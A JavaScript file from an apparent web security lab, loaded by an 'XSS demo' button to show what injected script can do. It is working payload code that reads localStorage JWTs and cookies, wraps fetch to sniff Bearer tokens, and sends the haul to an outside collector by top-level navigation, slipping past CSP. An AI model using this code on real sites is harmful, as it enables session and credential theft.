// What script injected into the lab page would do (issue 15). The lab page's "Attacker's script
// (XSS demo)" control (components/xss_panel.js) loads this fixed file from the page's own
// origin, as a module, so the page's strict CSP (script-src 'self') stays as it is: a real XSS
// arrives through a bug instead (unescaped user content), and the CSP is what usually stops its
// inline script. Only a person's click on that control runs it.
//
// It reads localStorage, tries the cookies, tries the in-memory token, tries the quiet channels
// (fetch, beacon, image, form post: the lab's CSP refuses each, by connect-src, img-src and
// form-action 'none', and says so), and then sends what it found to the attacker's collector
// (config.json's collectorUrl) by a TOP-LEVEL NAVIGATION, which no CSP directive governs.

const TOKENS_KEY = "lab.jwt"; // where web_client/scripts/token_store.js keeps a localStorage pair
const SNIFF_MS = 3000;

// The page's own configuration names the collector, as it names the API: read it the way the
// page does (connect-src allows 'self'), before fetch is wrapped below.
const config = await (await fetch("./config.json", { cache: "no-store" })).json();
const collector = config.collectorUrl;
const found = { source: `xss_payload.js on ${location.origin}`, page: location.href };

// 1. localStorage: every key, and the JWT pair if the lab keeps one there.
found.storage = Object.keys(localStorage).join(", ") || "(empty)";
try {
  const pair = JSON.parse(localStorage.getItem(TOKENS_KEY));
  if (pair?.access) found.access = pair.access;
  if (pair?.refresh) found.refresh = pair.refresh;
} catch {
  // not JSON: nothing to take
}

// 2. Cookies: only those without HttpOnly are visible (the CSRF cookie, on the same-origin page).
found.cookies = document.cookie || "(none readable: HttpOnly cookies are invisible to script)";

// 3. The in-memory token lives in a module's closure, out of reach of another script; but the
// page attaches it to its own requests. Wrap fetch, make the page call the API (press its own
// "who am I" button), and copy the Authorization header as it goes by. A cookie the page's
// request carries (HttpOnly: unreadable) is ridden the same way, while the page is open.
async function sniff() {
  const original = window.fetch;
  const seen = { bearer: null, rode: null };
  window.fetch = async (input, init = {}) => {
    const header = new Headers(init.headers ?? {}).get("Authorization");
    if (header?.startsWith("Bearer ")) seen.bearer = header.slice("Bearer ".length);
    const answer = await original(input, init);
    if (!header) seen.rode = `${init.method ?? "GET"} ${input} -> ${answer.status}`;
    return answer;
  };
  document.querySelector("button[data-action=me]")?.click();
  const deadline = Date.now() + SNIFF_MS;
  while (seen.bearer === null && seen.rode === null && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  window.fetch = original;
  return seen;
}

if (found.access) {
  found.memory = "not needed: the pair sat in localStorage";
} else {
  const { bearer, rode } = await sniff();
  if (bearer) {
    found.access = bearer;
    found.memory = "access token copied from the page's own request (fetch wrapped)";
  } else if (rode) {
    found.memory = `no token to take; the page's own request rode its cookies (${rode}): ` +
      "rideable while the page is open, never readable";
  } else {
    found.memory = "no request went by: nothing in memory, or not signed in";
  }
}

// 4. The quiet channels first, each of which the lab's CSP refuses (the browser reports every
// refusal as a securitypolicyviolation event, which this script can hear).
const CHANNELS = { "connect-src": "fetch/beacon", "img-src": "image", "form-action": "form post" };
const channel = (event) => CHANNELS[event.effectiveDirective] ?? event.blockedURI;

async function tryQuietChannels() {
  const refused = [];
  const hear = (event) => refused.push(`${event.effectiveDirective} refused the ${channel(event)}`);
  document.addEventListener("securitypolicyviolation", hear);
  const probe = `${collector}?source=quiet-channel`;
  fetch(probe, { mode: "no-cors" }).catch(() => {});
  navigator.sendBeacon?.(probe, "stolen");
  new Image().src = probe;
  const form = document.createElement("form");
  form.method = "post";
  form.action = probe;
  document.body.append(form);
  form.submit();
  form.remove();
  const deadline = Date.now() + SNIFF_MS;
  while (refused.length < 4 && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  document.removeEventListener("securitypolicyviolation", hear);
  return refused;
}
found.csp = (await tryQuietChannels()).join("; ") || "no channel was refused";

// 5. Off to the collector: a top-level navigation (the victim's tab leaves the lab page).
location.assign(`${collector}?${new URLSearchParams(found)}`);
